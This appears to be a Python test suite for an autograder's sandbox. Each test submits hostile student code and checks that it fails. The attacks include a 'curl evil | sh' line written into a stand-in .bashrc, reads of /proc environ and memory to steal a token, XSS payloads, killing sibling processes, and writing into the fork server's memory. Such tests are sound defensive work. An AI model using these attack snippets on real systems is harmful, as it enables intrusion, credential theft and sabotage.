@@ -1,0 +1,463 @@
+"""Attacks on the grader's files, on classmates and on later runs: each must fail, in every mode.
+
+Each test is one attack a submission can make (issue "filesystem and cross-student isolation").
+They run with every layer the machine allows, with the namespaces turned off (Landlock, or the
+uid drop, then carries the file-system isolation), and in the fork server of batch grading. The
+attacks target only files and processes the test itself made or the grader's own: where a layer
+were missing, the test fails without harming the machine.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import site
+import sysconfig
+import textwrap
+import time
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from grader import grade, sandbox
+from grader.model import DEFAULT_SEED
+from grader.report import validate
+from grader.sandbox import SKIP_LAYERS_VARIABLE
+
+from .conftest import SUBMISSIONS, notebook, run_cli
+
+CORRECT = (SUBMISSIONS / "attention" / "correct_matmul.py").read_text()
+BUGGY = (SUBMISSIONS / "attention" / "scale_by_dk.py").read_text()
+GRADER_ROOT = Path(sandbox.__file__).resolve().parents[2]  # holds grader/ and reference/
+FILESYSTEM_LAYERS = {"read-only-root", "landlock", "unprivileged-uid"}
+
+
+@pytest.fixture(autouse=True, params=["all-layers", "no-namespaces", "fork-server"])
+def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch):
+    if request.param == "no-namespaces":
+        monkeypatch.setenv(SKIP_LAYERS_VARIABLE, "namespaces")
+    sandbox.use_fork_server(request.param == "fork-server")
+    yield request.param
+    sandbox.use_fork_server(False)
+
+
+def _grade(tmp_path: Path, source: str, name: str = "attention.py", **options) -> dict:
+    path = tmp_path / "submission" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(source)
+    report = grade(path, assignment="attention", **options)
+    validate(report)
+    return report
+
+
+def _isolated(report: dict) -> bool:
+    layers = set(report["metadata"]["isolation"])
+    if not layers & FILESYSTEM_LAYERS:
+        pytest.skip("no filesystem layer here: the grader refuses to run (tested below)")
+    return True
+
+
+def _digest(folder: Path) -> str:
+    digest = hashlib.sha256()
+    for path in sorted(folder.rglob("*")):
+        if path.is_file() and "__pycache__" not in path.parts:
+            digest.update(str(path).encode() + path.read_bytes())
+    return digest.hexdigest()
+
+
+def _attempt(action: str) -> str:
+    """Code that tries ``action`` and prints `done` or `refused` (any error), then goes on."""
+    return (f"try:\n{textwrap.indent(action, '    ')}\n    print('done')\n"
+            "except Exception as exc:\n    print('refused', type(exc).__name__)\n")
+
+
+def test_the_grader_package_and_rubrics_cannot_be_rewritten(tmp_path: Path) -> None:
+    before = _digest(GRADER_ROOT / "grader")
+    targets = [GRADER_ROOT / "grader" / "scoring.py", GRADER_ROOT / "grader" / "__init__.py",
+               *sorted(GRADER_ROOT.glob("assignments/*/rubric.json"))]
+    attack = "".join(_attempt(f"open({str(t)!r}, 'a').write('\\nSCORE = 10\\n')")
+                     for t in targets)
+    report = _grade(tmp_path, "import os\n" + attack + BUGGY)
+    _isolated(report)
+    assert _digest(GRADER_ROOT / "grader") == before
+    assert "done" not in report["metadata"]["stdout"].split()
+    # (the tripwire also names the attempt: reaching the grader's files refuses grading)
+    assert report["score"] < report["max_score"]
+
+
+def test_no_pth_file_reaches_site_packages(tmp_path: Path) -> None:
+    folders = {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}
+    names = [Path(f) / f"zz_attack_{os.getpid()}.pth" for f in folders]
+    attack = "".join(_attempt(f"open({str(n)!r}, 'w').write('import os; os.system(\"true\")')")
+                     for n in names)
+    report = _grade(tmp_path, attack + CORRECT)
+    _isolated(report)
+    assert not [n for n in names if n.exists()]
+    assert report["score"] == report["max_score"]
+
+
+def test_files_of_the_graders_user_cannot_be_written_or_read(tmp_path: Path) -> None:
+    """A stand-in for ~/.bashrc and a classmate's file: both the grader's user's, outside the
+    submission's folder."""
+    bashrc = tmp_path / "home" / ".bashrc"
+    bashrc.parent.mkdir()
+    bashrc.write_text("# the grader's shell\n")
+    classmate = tmp_path / "class" / "bob.py"
+    classmate.parent.mkdir()
+    classmate.write_text(CORRECT)
+    attack = (_attempt(f"open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')")
+              + _attempt(f"open({str(classmate)!r}, 'w').write('# wiped\\n')")
+              + _attempt(f"exec(open({str(classmate)!r}).read())"))
+    report = _grade(tmp_path, "import os\n" + attack + BUGGY)
+    _isolated(report)
+    assert bashrc.read_text() == "# the grader's shell\n"
+    assert classmate.read_text() == CORRECT
+    assert report["metadata"]["stdout"].split().count("done") == 0
+    assert report["score"] < report["max_score"]  # the classmate's code never ran in its place
+
+
+def test_no_file_outlives_the_run(tmp_path: Path) -> None:
+    tag = f"ag-attack-{os.getpid()}-{time.monotonic_ns()}"
+    places = [Path(p) / tag for p in ("/tmp", "/var/tmp", "/dev/shm") if os.path.isdir(p)]
+    attack = "".join(_attempt(f"open({str(p)!r}, 'wb').write(b'x' * 4096)") for p in places)
+    report = _grade(tmp_path, attack + CORRECT)
+    _isolated(report)
+    assert [p for p in places if p.exists()] == []
+    assert report["score"] == report["max_score"]
+
+
+def test_no_process_outlives_a_deep_chain_of_children(tmp_path: Path) -> None:
+    tag = f"ag-chain-{os.getpid()}-{time.monotonic_ns()}"
+    chain = textwrap.dedent(f"""\
+        import os, time
+        def descend(depth):
+            if os.fork() == 0:
+                os.setsid()
+                if depth:
+                    descend(depth - 1)
+                os.execv("/bin/sleep", [{tag!r}, "300"])
+        try:
+            descend(30)
+        except OSError:
+            pass
+        """)
+    report = _grade(tmp_path, chain + CORRECT)
+    assert report["score"] == report["max_score"]
+    time.sleep(0.2)
+    left = []
+    for name in os.listdir("/proc"):
+        if name.isdigit():
+            try:
+                if tag.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
+                    left.append(name)
+            except OSError:
+                pass
+    assert left == []
+
+
+def test_a_forged_frame_is_a_crash_of_that_submission(tmp_path: Path) -> None:
+    forge = textwrap.dedent("""\
+        import gc, json, os, struct
+        def forge(header):
+            channel = next(o for o in gc.get_objects()
+                           if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
+            header["nonce"] = channel.nonce
+            payload = json.dumps(header).encode()
+            os.write(channel.fd, struct.pack("<4sIQ", b"AGF1", len(payload), 0) + payload)
+        _real = None
+        """)
+    call = ("    forge({'type': 'result', 'index': 0, 'status': 'ok', 'seconds': 'soon',\n"
+            "           'arrays': [{'role': 'output', 'dtype': '<f8', 'shape': [0],\n"
+            "                       'offset': 'x', 'nbytes': 0}]})\n"
+            "    os._exit(0)\n")
+    source = forge + CORRECT + ("\n_correct = scaled_dot_product_attention\n"
+                                "def scaled_dot_product_attention(Q, K, V, mask=None):\n" + call)
+    report = _grade(tmp_path, source)
+    assert report["status"] in ("graded", "error")
+    assert "crashed" in [e["kind"] for e in report["errors"]]
+    assert report["score"] < report["max_score"]
+    loaded = forge + "forge({'type': 'loaded', 'functions': 5, 'signatures': [1], " \
+                     "'errors': 'x', 'fatal': 3, 'tripped': 7})\nos._exit(0)\n"
+    report = _grade(tmp_path, loaded)
+    assert report["status"] == "error" and report["score"] == 0
+
+
+def test_hostile_seconds_in_an_otherwise_good_frame(tmp_path: Path) -> None:
+    """The frame is well formed but for one field of the wrong type: still not an internal
+    error of the grader."""
+    source = textwrap.dedent("""\
+        import gc, json, os, struct
+        import numpy as np
+        def scaled_dot_product_attention(Q, K, V, mask=None):
+            channel = next(o for o in gc.get_objects()
+                           if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
+            out = np.zeros(Q.shape[:-1] + V.shape[-1:]).tobytes()
+            header = {"type": "result", "index": 0, "status": "ok", "seconds": "1,5",
+                      "nonce": channel.nonce,
+                      "arrays": [{"role": "output", "dtype": "<f8", "nbytes": len(out),
+                                  "shape": list(Q.shape[:-1] + V.shape[-1:]), "offset": 0},
+                                 {"role": "input:x", "dtype": "<f8", "shape": [0],
+                                  "offset": 0, "nbytes": 0}]}
+            payload = json.dumps(header).encode()
+            os.write(channel.fd, struct.pack("<4sIQ", b"AGF1", len(payload), len(out))
+                     + payload + out)
+            os._exit(0)
+        """)
+    report = _grade(tmp_path, source)
+    assert "crashed" in [e["kind"] for e in report["errors"]]
+
+
+def test_the_reference_cannot_be_reached_by_a_directory_fd_or_a_hard_link(tmp_path: Path) -> None:
+    reference = GRADER_ROOT / "reference"
+    attack = textwrap.dedent(f"""\
+        import os
+        namespace = {{}}
+        try:
+            folder = os.open({str(reference)!r}, os.O_RDONLY | os.O_DIRECTORY)
+            names = [n for n in os.listdir(folder) if n.endswith(".py")]
+            for name in names:
+                fd = os.open(name, os.O_RDONLY, dir_fd=folder)
+                exec(os.read(fd, 1 << 20).decode(), namespace)
+            print("read-by-fd")
+        except Exception as exc:
+            print("refused", type(exc).__name__)
+        try:
+            for name in os.listdir({str(reference)!r}):
+                os.link(os.path.join({str(reference)!r}, name), "copy_" + name)
+            print("linked")
+        except Exception as exc:
+            print("refused", type(exc).__name__)
+        scaled_dot_product_attention = namespace.get("scaled_dot_product_attention")
+        """)
+    report = _grade(tmp_path, attack)
+    _isolated(report)
+    out = report["metadata"]["stdout"]
+    assert "read-by-fd" not in out and "linked" not in out
+    assert report["score"] == 0
+
+
+def test_ancestors_proc_entries_are_out_of_sight(tmp_path: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    """The grader's command line (hidden seed, class folder) and environment (tokens)."""
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_secret_token_for_the_test")
+    attack = textwrap.dedent(f"""\
+        import os
+        pids = [{os.getpid()}, os.getppid()]
+        for pid in pids:
+            for what in ("cmdline", "environ", "mem"):
+                try:
+                    data = open(f"/proc/{{pid}}/{{what}}", "rb").read(4096)
+                    print("read", what, data[:60])
+                except Exception as exc:
+                    print("hidden", what, type(exc).__name__)
+        print("TOKEN" if "ghp_secret" in str(dict(os.environ)) else "no-token")
+        """)
+    report = _grade(tmp_path, attack + CORRECT, seed=4242)
+    out = report["metadata"]["stdout"]
+    assert "ghp_secret" not in out and "no-token" in out
+    if "pid-namespace" in report["metadata"]["isolation"] or "landlock" in \
+            report["metadata"]["isolation"]:
+        assert "read " not in out, out
+        assert "4242" not in out
+    assert report["score"] == report["max_score"]
+
+
+def test_exception_text_cannot_inject_markdown_or_html(tmp_path: Path) -> None:
+    from grader.render import RENDERERS
+
+    payload = "<img src=x onerror=alert(1)> [click](https://evil.example) | **bold** ```"
+    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
+                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
+                        f"    raise ValueError({payload!r})\n")
+    report = _grade(tmp_path, source, name="a`b <i>.py")
+    markdown = RENDERERS["markdown"](report)
+    html_page = RENDERERS["html"](report)
+    results = json.loads(RENDERERS["gradescope"](report))
+    shown = [markdown, results["output"], *(t["output"] for t in results["tests"])]
+    assert "<img" not in html_page and "<i>" not in html_page
+    for text in map(_outside_fences, shown):
+        assert "<img" not in text and "<i>" not in text
+        assert "[click](https" not in text
+    for text in (markdown, results["output"]):
+        for line in text.splitlines():
+            if line.startswith("|"):
+                assert line.count("|") - line.count("\\|") == 5, line
+
+
+def _outside_fences(markdown: str) -> str:
+    """The Markdown text that is rendered as Markdown: everything outside code fences."""
+    kept, fence = [], ""
+    for line in markdown.splitlines():
+        marks = line[: len(line) - len(line.lstrip("`"))]
+        if fence and line.strip() == fence:
+            fence = ""
+        elif not fence and len(marks) >= 3:
+            fence = marks
+        elif not fence:
+            kept.append(line)
+    return "\n".join(kept)
+
+
+def test_hidden_probe_values_stay_out_of_always_visible_gradescope_output(tmp_path: Path) -> None:
+    from grader.render import RENDERERS
+
+    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
+                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
+                        "    if Q.size > 4:\n"
+                        "        raise ValueError('LEAK' + repr(Q.ravel()[:3].tolist()))\n"
+                        "    return _correct(Q, K, V, mask) * 1.5\n")
+    report = _grade(tmp_path, source, seed=777)
+    assert report["metadata"]["hidden_probes"]
+    results = json.loads(RENDERERS["gradescope"](report, hidden_visibility="after_published"))
+    visible = [results["output"]] + [t["output"] for t in results["tests"]
+                                     if t["visibility"] == "visible"]
+    failed_hidden = [c["message"] for c in report["checks"] if c.get("hidden") and not c["passed"]]
+    assert failed_hidden
+    for text in visible:
+        assert "LEAK" not in text
+        for message in failed_hidden:
+            assert message not in text
+    public = _grade(tmp_path, source, seed=DEFAULT_SEED)
+    assert "LEAK" in RENDERERS["markdown"](public)  # with public probes the student sees it
+
+
+def test_dead_children_are_reaped_after_every_grade(tmp_path: Path) -> None:
+    forks = ("import os\nfor _ in range(40):\n    if os.fork() == 0:\n        os._exit(0)\n")
+    for _ in range(2):
+        _grade(tmp_path, forks + CORRECT)
+    me = os.getpid()
+    zombies = []
+    for name in os.listdir("/proc"):
+        if name.isdigit():
+            try:
+                stat = Path(f"/proc/{name}/stat").read_text()
+            except OSError:
+                continue
+            fields = stat[stat.rfind(")") + 2:].split()
+            if fields[0] == "Z" and int(fields[1]) == me:
+                zombies.append(stat[:60])
+    assert zombies == []
+
+
+@pytest.mark.parametrize("dtype", [">f8", ">f4", "longdouble"])
+def test_exactly_converting_dtypes_are_accepted(tmp_path: Path, dtype: str) -> None:
+    cast = "np.longdouble" if dtype == "longdouble" else repr(dtype)
+    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
+                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
+                        "    output, weights = _correct(Q, K, V, mask)\n"
+                        f"    return output.astype({cast}), weights.astype({cast})\n")
+    report = _grade(tmp_path, source)
+    assert report["errors"] == [] and report["score"] == report["max_score"]
+
+
+def test_the_loader_is_linear_on_a_crafted_notebook(tmp_path: Path) -> None:
+    """A cell that defeats a backtracking magic-line pattern: long runs of word characters and
+    blanks with no '=' (the old pattern took minutes on 12 KB)."""
+    crafted = "%matplotlib inline\n" + ("a " * 200_000) + "\n" + ("x" + " " * 100_000 + "=\n")
+    started = time.monotonic()
+    report = _grade(tmp_path, notebook(crafted, CORRECT), name="attention.ipynb")
+    assert time.monotonic() - started < 20  # linear: well under a second of loading
+    assert report["score"] == report["max_score"]
+
+
+def test_notebook_lines_are_cut_as_jupyter_cuts_them(tmp_path: Path) -> None:
+    """In Jupyter a U+2028 inside a comment is part of the comment; code after it never runs."""
+    hidden = "def scaled_dot_product_attention(Q, K, V, mask=None): return _right(Q, K, V, mask)"
+    cell = ("%matplotlib inline\n" + "_right = scaled_dot_product_attention\n"
+            "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
+            "    return _right(Q, K, V, mask)[0] * 2  # wrong\n"
+            f"# note\u2028{hidden}\n")
+    report = _grade(tmp_path, notebook(CORRECT, cell), name="attention.ipynb")
+    assert report["score"] < report["max_score"]
+
+
+def test_without_filesystem_isolation_the_grader_refuses_unless_told(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from grader.sandbox.limits import DEFAULT_LIMITS
+
+    monkeypatch.setenv(SKIP_LAYERS_VARIABLE, "namespaces,landlock,unprivileged-uid")
+    report = _grade(tmp_path, CORRECT)
+    if not os.access(GRADER_ROOT / "grader", os.W_OK):
+        pytest.skip("the grader's files are not writable by its user here: nothing to refuse")
+    assert report["status"] == "error" and report["score"] == 0
+    assert [e["kind"] for e in report["errors"]] == ["isolation-unavailable"]
+    assert "--unsafe-no-fs-isolation" in report["errors"][0]["message"]
+    from dataclasses import replace
+
+    allowed = _grade(tmp_path, CORRECT,
+                     limits=replace(DEFAULT_LIMITS, unsafe_no_fs_isolation=True))
+    assert allowed["score"] == allowed["max_score"]
+    path = tmp_path / "submission" / "attention.py"
+    refused = json.loads(run_cli("grade", str(path)).stdout)
+    assert [e["kind"] for e in refused["errors"]] == ["isolation-unavailable"]
+    told = json.loads(run_cli("grade", str(path), "--unsafe-no-fs-isolation").stdout)
+    assert told["score"] == told["max_score"]
+
+
+def test_mode_layers_are_what_the_mode_says(tmp_path: Path, mode: str) -> None:
+    report = _grade(tmp_path, CORRECT)
+    layers = set(report["metadata"]["isolation"])
+    if mode == "no-namespaces":
+        assert not layers & {"pid-namespace", "mount-namespace", "read-only-root"}
+    elif "mount-namespace" in layers:  # its own root is built wherever the namespace is had
+        assert "read-only-root" in layers
+    assert report["score"] == report["max_score"]
+    assert np.isfinite(report["score"])
+
+
+def test_a_submission_cannot_reach_its_classmates_in_a_batch(tmp_path: Path, mode: str) -> None:
+    """``--jobs 2``: one submission tries to kill every other grading process it can see, to
+    write into its classmates' folder and reports, and to poison the fork server's memory."""
+    from grader.batch import discover, run_batch
+
+    if mode != "all-layers":
+        pytest.skip("batch grading always uses the fork server; one mode is enough")
+    folder = tmp_path / "class"
+    folder.mkdir()
+    out = tmp_path / "out"
+    for name in ("ann", "bob", "cyd", "dan", "fay", "gus"):
+        (folder / f"{name}.py").write_text(CORRECT)
+    (folder / "eve.py").write_text(textwrap.dedent(f"""\
+        import os, signal, time
+        seen = []
+        for _ in range(20):
+            try:
+                pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
+            except OSError:
+                pids = []
+            for pid in pids:
+                if pid in (os.getpid(), 1):
+                    continue
+                try:
+                    line = open(f"/proc/{{pid}}/cmdline", "rb").read()
+                except OSError:
+                    continue
+                if b"worker.py" in line or b"attention-grader" in line or b"pytest" in line:
+                    try:
+                        if b"--zygote" in line:
+                            with open(f"/proc/{{pid}}/mem", "r+b") as mem:
+                                mem.seek(0x400000)
+                                mem.write(b"\\xcc" * 64)
+                        os.kill(pid, signal.SIGKILL)
+                        seen.append(pid)
+                    except OSError:
+                        pass
+            for target in {str(folder)!r}, {str(out)!r}:
+                try:
+                    for name in os.listdir(target):
+                        open(os.path.join(target, name), "w").write("# overwritten\\n")
+                except OSError:
+                    pass
+            time.sleep(0.05)
+        print("killed", len(seen))
+        """) + CORRECT)
+    result = run_batch(discover([str(folder)]), "attention", out, jobs=2)
+    assert result.graded == 7
+    for name in ("ann", "bob", "cyd", "dan", "fay", "gus"):
+        assert (folder / f"{name}.py").read_text() == CORRECT
+        report = json.loads((out / f"{name}.json").read_text())
+        assert report["score"] == report["max_score"], (name, report["errors"])
+    eve = json.loads((out / "eve.json").read_text())
+    assert "killed 0" in eve["metadata"].get("stdout", "")
